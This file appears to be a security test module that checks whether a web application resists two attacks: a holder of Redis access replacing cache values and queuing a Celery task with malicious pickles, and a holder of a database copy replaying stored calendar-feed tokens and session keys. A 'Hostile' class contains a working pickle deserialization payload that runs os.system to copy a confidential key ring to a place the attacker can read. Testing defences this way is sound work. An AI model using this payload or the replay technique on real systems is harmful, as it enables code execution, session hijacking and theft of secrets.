"""Ways 33 and 38: somebody who has Redis alone, or a copy of the database alone, and the site before them."""

import os
import pickle
import time

import kombu
import redis

from trials.leak.visitor import Visitor
from trials.leak.ways import Seen, switched, way

LONGEST_SECONDS = 20


class Hostile:
    """Run by whoever unpickles it: copies the key ring to where the thief finds it."""

    def __init__(self, ring, stolen):
        self.command = f"cp {ring} {stolen}"

    def __reduce__(self):
        return os.system, (self.command,)


@way(33, "Redis alone: a pickle where a value was", plant=switched("cache"))
def pickles(world):
    """Every value of the cache replaced by a pickle, then the forms that read them; a pickled task for the worker."""
    wrong = {"login": world.people["mentee"]["email"], "password": "wrong-password"}
    Visitor(world.ports["member"], who="thief").post("/accounts/login/", **wrong)
    stolen = world.tmp / "stolen-from-cache"
    places = plant_in_cache(world, stolen)
    Visitor(world.ports["member"], who="thief").post("/accounts/login/", **wrong)
    world.as_("superuser", "staff").get("/admin/")
    yield from taken(stolen, "pickle in the cache", vain="" if places >= 2 else "the cache was empty")
    stolen = world.tmp / "stolen-by-task"
    publish(world, stolen)
    yield from taken(stolen, "pickled task", vain="" if refused(world) else "the worker never took it")
    redis.Redis.from_url(world.redis_url).delete(*keys(world))


def keys(world):
    """What is a value: the broker's own lists and sets are read as JSON before anything else is."""
    server = redis.Redis.from_url(world.redis_url)
    return [key for key in server.scan_iter("*") if server.type(key) == b"string"]


def plant_in_cache(world, stolen):
    """Replace every value. How many there were."""
    content = pickle.dumps(Hostile(world.var / "confidential_keyring", stolen))
    found = keys(world)
    for key in found:
        redis.Redis.from_url(world.redis_url).set(key, content)
    return len(found)


def publish(world, stolen):
    """A task whose arguments are a pickle, as Celery would take it if it were told to."""
    content = pickle.dumps(((Hostile(world.var / "confidential_keyring", stolen),), {}, {}))
    with kombu.Connection(world.redis_url) as connection:
        connection.Producer().publish(
            content,
            routing_key="celery",
            content_type="application/x-python-serialize",
            content_encoding="binary",
            headers={"task": "mail.tasks.send_outbox", "id": "leaktest"},
        )


def refused(world):
    """Whether the worker has met the task, and said so; it may take a moment."""
    until = time.monotonic() + LONGEST_SECONDS
    while time.monotonic() < until:
        if "ContentDisallowed" in world.log("worker"):
            return True
        time.sleep(0.2)
    return False


def taken(stolen, where, *, vain):
    """What the thief got: the key ring, if any code of theirs has run."""
    ran = stolen.exists()
    yield Seen(
        where, stolen.read_bytes() if ran else b"", "code of a stranger has run" if ran else "", (), vain
    )
    stolen.unlink(missing_ok=True)


@way(38, "a copy of the database, no key: its tokens", plant=switched("calendar feed"))
def tokens(world):
    """Whatever in the copy looks like a token, tried where tokens open something."""
    world.as_("mentee").post("/meetings/calendar/", **{})  # names and places are wanted in the calendar
    thief = Visitor(world.ports["member"], who="thief")
    feeds = [
        feed for (feed,) in world.db.ask("SELECT feed FROM meetings_calendarsettings WHERE feed IS NOT NULL")
    ]
    for feed in feeds:
        answer = thief.get(f"/calendar/{feed}.ics")
        yield Seen("calendar feed", answer.raw, "opened by what is stored" if answer.status == 200 else "")
    whole = world.as_("mentee").get(f"/calendar/{world.codes['feed']}.ics").status
    yield Seen("calendar feed", b"", vain="" if feeds and whole == 200 else "there is no feed")
    for table, site in (("django_session", "member"), ("coordination_staffsession", "staff")):
        for (key,) in world.db.ask(f"SELECT session_key FROM {table}"):
            yield from with_cookie(world, site, key)


def with_cookie(world, site, key):
    """What a browser gets that holds the stored key of a session."""
    thief = Visitor(world.ports[site], who="thief")
    thief.cookies[f"{site}-session"] = key
    answer = thief.get("/profile/" if site == "member" else "/admin/")
    yield Seen(
        f"session of the {site} site", answer.raw, "a stored key signs in" if answer.status == 200 else ""
    )
